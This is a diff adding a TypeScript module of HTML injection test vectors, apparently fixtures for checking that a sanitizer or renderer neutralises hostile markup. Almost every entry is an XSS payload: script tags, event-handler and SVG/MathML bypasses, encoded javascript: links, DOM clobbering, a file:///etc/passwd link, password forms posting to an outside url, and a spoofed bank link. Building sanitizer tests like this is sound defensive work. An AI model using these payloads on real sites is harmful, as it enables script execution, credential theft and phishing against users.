@@ -1,0 +1,51 @@
+import type { Tricks } from './hostile.ts';
+
+/** Scripts, and everything else that runs something. */
+export const scripts: Tricks = ({ url, script }) => ({
+  'script element': `<script>${script}</script>`,
+  'script from elsewhere': `<script src="${url}/s.js"></script><script type=module src="${url}/m.js"></script>`,
+  'script in pieces': `<scr<script>ipt>${script}</scr</script>ipt>`,
+  'script with odd spelling': `<ScRiPt\n>${script}</sCrIpT\t><script/x>${script}</script/y>`,
+  'speculation rules': `<script type=speculationrules>{"prefetch":[{"urls":["${url}/p"]}],"prerender":[{"urls":["${url}/q"]}]}</script>`,
+  'import map': `<script type=importmap>{"imports":{"react":"${url}/r.js"}}</script>`,
+  onerror: `<img src=x onerror="${script}"><img src onerror="${script}"><img/src=x/onerror="${script}">`,
+  'onerror in uppercase': `<IMG SRC=x ONERROR="${script}">`,
+  'onload of the body': `<body onload="${script}" onpageshow="${script}" onfocus="${script}">x</body>`,
+  'handlers without a click': `<details open ontoggle="${script}">x</details><input autofocus onfocus="${script}"><marquee onstart="${script}">x</marquee><video><source onerror="${script}"></video><audio src=x onerror="${script}"></audio>`,
+  'handlers of animations': `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${script}" onanimationend="${script}">x</p><p style="transition:color 1s" ontransitionrun="${script}">y</p>`,
+  'handlers of the mouse': `<p style="position:fixed;inset:0" onmouseover="${script}" onpointerenter="${script}" onclick="${script}">x</p>`,
+  'scroll handlers': `<div style="height:50px;overflow:auto" onscroll="${script}"><br><br><br><a id=s></a><br><br><input autofocus></div>`,
+  'svg onload': `<svg onload="${script}"></svg><svg/onload="${script}">`,
+  'svg script': `<svg><script>${script}</script></svg><svg><script href="${url}/s.js"/></svg>`,
+  'svg animation': `<svg><animate onbegin="${script}" attributeName=x dur=1s></svg><svg><set onbegin="${script}" attributeName=x to=y></svg>`,
+  'svg link': `<svg><a xlink:href="javascript:${script}"><text y=20>x</text></a><a><animate attributeName=href values="javascript:${script}"/><text y=40>y</text></a></svg>`,
+  'svg use': `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${script}'/></svg>#x"></use></svg>`,
+  'svg foreign object': `<svg><foreignObject><iframe srcdoc="<script>${script}</script>"></iframe><img src=x onerror="${script}"></foreignObject></svg>`,
+  'math link': `<math><maction actiontype="statusline#${url}" xlink:href="javascript:${script}">x</maction><mtext><img src=x onerror="${script}"></mtext></math>`,
+  'frame with a page in it': `<iframe srcdoc="<script>${script}</script>"></iframe><iframe srcdoc="&lt;img src=x onerror='${script}'&gt;"></iframe>`,
+  'frame of a script': `<iframe src="javascript:${script}"></iframe><iframe src="data:text/html,<script>${script}</script>"></iframe>`,
+  'frame from elsewhere': `<iframe src="${url}/f"></iframe><frameset onload="${script}"><frame src="${url}/g"></frameset><fencedframe src="${url}/h"></fencedframe><portal src="${url}/i"></portal>`,
+  'object and embed': `<object data="${url}/o"></object><object data="data:text/html,<script>${script}</script>"></object><embed src="${url}/e"><embed src="javascript:${script}"><applet code=x archive="${url}/a"></applet>`,
+  'object with parts': `<object type="text/html"><param name=src value="${url}/p"><param name=movie value="${url}/q"><embed src="${url}/r"></object>`,
+  'shadow root': `<div><template shadowrootmode=open><img src="${url}/sh" onerror="${script}"><script>${script}</script></template></div><template><img src=x onerror="${script}"></template>`,
+  'custom element': `<x-y onclick="${script}" is=z><img is=q src=x onerror="${script}"></x-y><slot onslotchange="${script}"><b>x</b></slot>`,
+  'dialogs and popovers': `<dialog open onclose="${script}"><form method=dialog><button autofocus>x</button></form></dialog><button popovertarget=p>y</button><div popover id=p onbeforetoggle="${script}">z</div><button commandfor=p command=show-popover>c</button>`,
+  'handlers hidden by faults': `<img src="x" """><img src=x onerror="${script}"">" <img """><script>${script}</script>"><a onmouseover="${script}"x="y">z</a>`,
+  'handlers behind a null byte': `<img src=x on\0error="${script}"><img src=x onerror\0="${script}"><scr\0ipt>${script}</scr\0ipt>`,
+  'names that shadow the page': `<form id=x><input name=attributes><input name=parentNode><input name=nodeName></form><img name=getElementById><img name=createElement><a id=defaultView></a><a id=top href="x:y"></a><form name=body><input name=firstChild></form><img src=x onerror="${script}">`,
+});
+
+/** Links, which lead nowhere, whatever they say. */
+export const links: Tricks = ({ url, script }) => ({
+  'script in a link': `<a href="javascript:${script}">x</a><a href="JaVaScRiPt:${script}">y</a><a href="  javascript:${script}">z</a>`,
+  'script in a link, encoded': `<a href="&#106;&#x61;vascript&colon;${script}">x</a><a href="java&#10;script:${script}">y</a><a href="java\tscript:${script}">z</a><a href="&#1;javascript:${script}">w</a>`,
+  'other schemes': `<a href="vbscript:x">x</a><a href="data:text/html,<script>${script}</script>">y</a><a href="blob:null/x">z</a><a href="file:///etc/passwd">f</a><a href="view-source:${url}">v</a>`,
+  'links to elsewhere': `<a href="${url}/l">x</a><a href="//${url.slice(7)}/m">y</a><a href="${url}/n" target=_blank>z</a><a href="${url}/o" target=_top>t</a><a href="${url}/q" target=_parent>p</a>`,
+  'links that tell': `<a href="#" ping="${url}/ping">x</a><a href="${url}/dl" download="x.exe">y</a><a href="${url}/r" referrerpolicy=unsafe-url rel=opener attributionsrc="${url}/as">z</a>`,
+  'areas of a map': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=50 height=50 usemap="#m"><map name=m><area shape=rect coords="0,0,50,50" href="${url}/area" ping="${url}/ping"></map>`,
+  'links within the page': `<a href="#deep" id=top>x</a><p id=deep>y</p><a href="?token=x">z</a><a href="/rpc">r</a><a href="">e</a>`,
+  'a link over everything': `<a href="${url}/all" style="position:fixed;inset:0;display:block">x</a>`,
+  'a link that looks like another': `<a href="${url}/real" title="https://bank.example" data-leads-to="https://bank.example">https://bank.example</a><a data-leads-to="https://bank.example" title="https://bank.example">fake</a>`,
+  forms: `<form action="${url}/form" method=post><input name=password value=secret><input type=submit autofocus><button formaction="${url}/fa">x</button></form><form id=f action="${url}/f2"></form><button form=f>y</button><input type=image src="${url}/i.png" formaction="javascript:${script}">`,
+  'forms that look like ours': `<form action="${url}/login"><label>Password<input type=password></label><select name=s onfocus="${script}"><option>x</select><textarea name=t></textarea><isindex action="${url}/ix" prompt=x><keygen name=k></form>`,
+});
